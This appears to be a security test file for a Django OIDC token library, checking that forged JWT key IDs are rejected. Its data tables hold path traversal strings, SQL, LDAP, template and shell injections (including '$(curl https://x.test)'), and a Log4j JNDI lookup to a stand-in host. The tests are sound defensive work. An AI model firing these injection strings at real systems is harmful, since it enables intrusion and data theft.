"""Catalogue, section 2: what ``kid`` may hold."""

from __future__ import annotations

import json
import unicodedata

import pytest

from django_oidc_rs.core.errors import (
    AlgorithmNotAllowed,
    BadSignature,
    MalformedToken,
    UnknownKey,
)
from tests.attacks.forging import under
from tests.attacks.harness import EVIL, Sent, strike
from tests.attacks.staging import (
    IT,
    PATHS,
    Several,
    faults_of,
    merged,
    on_every_handler,
    staged,
    strike_fault,
)
from tests.core.builders import AUDIENCE, ISSUER, claims, key, sign
from tests.core.faults import Fault
from tests.core.faults.crafting import (
    hs256,
    named,
    published,
)

pytestmark = [pytest.mark.urls("tests.attacks.apis"), pytest.mark.django_db]

LONGEST = 1_048_576


def named_key(kid, **options):
    """Well signed, but under a name the issuer does not publish."""
    return Fault("", UnknownKey, "kid", header={"kid": kid}, asks=True, **options)


PATHS_AS_KIDS = {
    "dev-null": "../../../../dev/null",
    "environ": "/proc/self/environ",
    "windows": "C:\\windows\\win.ini",
    "drive": "C:\\",
    "percent": "%2e%2e/%2e%2e/dev/null",
    "file": "file:///dev/null",
    "sysctl": "/proc/sys/kernel/randomize_va_space",
    "own-name": "./k1",
}
INJECTIONS = {
    "sql": "k1' OR '1'='1",
    "sql-union": "x' UNION SELECT 'key';--",
    "shell": "x|sleep 10",
    "shell-subst": "$(curl https://x.test)",
    "shell-newline": "k1\n sleep 10",
    "ldap": "*)(uid=*",
    "ldap-any": "*",
    "nosql": '{"$gt":""}',
    "jinja": "{{7*7}}",
    "django": f"{{% debug %}}{EVIL}",
    "printf": "%s%n%x",
    "format": "{0.__class__}",
    "log4j": "${jndi:ldap://x.test/a}",
    "regex": "(a+)+$",
    "pickle": "\x80\x04K\x01.",
}
KIDS = {
    "NUL": "k1\0",
    "bidi": "\u202ek1",
    "upper-case": "K1",
    "blank": " k1",
    "blank-after": "k1 ",
    "empty": "",
    "zero-width": "k\u200b1",
    "fullwidth": "\uff4b1",
    "emoji": "\U0001f511",
    "control": f"\x1b[31m{EVIL}\r\nCRITICAL root",
    "as-long-as-may-be": "k" * 1024,
}
SEPARATED = {
    "pipe": f"{ISSUER}|k1",
    "colon": f"{ISSUER}:k1",
    "own-twice": "k1:k1",
    "newline": "k1\nk1",
    "nul": f"{ISSUER}\0k1",
    "slash": f"{ISSUER}/jwks#k1",
    "memcached": "k" * 251,
    "memcached-blank": "k1 0 0 1\r\nset a",
}


def accented(form):
    return unicodedata.normalize(form, "cl\u00e9")


KEY_IDS = merged(
    {f"A35-{name}": named_key(kid) for name, kid in PATHS_AS_KIDS.items()},
    faults_of(35),
    {
        f"A35-{name}-HS256-empty-key": Fault(
            "", AlgorithmNotAllowed, "alg", raw=hs256(b"", kid=kid)
        )
        for name, kid in PATHS_AS_KIDS.items()
    },
    {
        # Where HS256 is allowed at all, no file is its secret either.
        f"A35-{name}-HS256-issuer": Fault(
            "", BadSignature, good="shared-secret", raw=hs256(secret, kid=kid)
        )
        for name, kid, secret in [
            ("dev-null", "../../../../dev/null", b""),
            ("nul-byte", "../../../../dev/null", b"\0"),
            ("sysctl", "/proc/sys/kernel/randomize_va_space", b"2\n"),
        ]
    },
    {f"A37-{name}": named_key(kid) for name, kid in INJECTIONS.items()},
    faults_of(38),
    {f"A38-{name}": named_key(kid) for name, kid in KIDS.items()},
    {
        f"A38-{form}-for-{other}": named_key(
            accented(form),
            jwks=published(named(), kid=accented(other)),
            good_signer=lambda other=other: under(key(), accented(other)),
        )
        for form, other in (("NFD", "NFC"), ("NFC", "NFD"))
    },
    {
        "A38-huge-within-the-limit": Fault(
            "",
            MalformedToken,
            "kid",
            header={"kid": "k" * 700_000},
            max_token_length=LONGEST,
        ),
        "A38-float": Fault("", MalformedToken, "kid", header={"kid": 1.5}),
        "A38-deep": Fault(
            "", MalformedToken, "kid", header={"kid": json.loads("[" * 9 + "]" * 9)}
        ),
        "A38-lone-surrogate": Fault("", MalformedToken, header={"kid": "k\ud800"}),
    },
    {f"A39-{name}": named_key(kid) for name, kid in SEPARATED.items()},
)


@pytest.mark.parametrize("row", KEY_IDS)
def test_a_key_id_is_a_name_and_nothing_else(row, caplog, monkeypatch):
    strike_fault(KEY_IDS[row], caplog, monkeypatch)


TWO = {
    "AUDIENCE": AUDIENCE,
    "ISSUERS": {
        "one": {"ISSUER": ISSUER, "SCOPES": ["read"]},
        "two": {"ISSUER": "https://two.test", "SCOPES": ["read"]},
    },
}
# What a cache of keys may have for the name of the other issuer's key.
COLLISIONS = {
    f"A39-cross-issuer-{name}": kid
    for name, kid in {
        "pipe": "https://two.test|k2",
        "colon": "https://two.test:k2",
        "newline": "https://two.test\nk2",
        "nul": "https://two.test\0k2",
        "bare": "k2",
    }.items()
}


@on_every_handler
@pytest.mark.parametrize("row", COLLISIONS)
def test_no_name_reaches_the_keys_of_another_issuer(row, handler, caplog, monkeypatch):
    other = named("ES256", "k2")
    forged = other().sign(claims(), {"alg": "ES256", "kid": COLLISIONS[row]})
    with staged(TWO, [key().public_jwk()], [other().public_jwk()]) as issuers:
        strike(
            Sent((f"Bearer {forged}",)),
            IT,
            url=PATHS[handler],
            handler=handler,
            issuer=Several(issuers),
            good=sign(),
            caplog=caplog,
            monkeypatch=monkeypatch,
            may_fetch=True,
            reason=UnknownKey.code,
        )
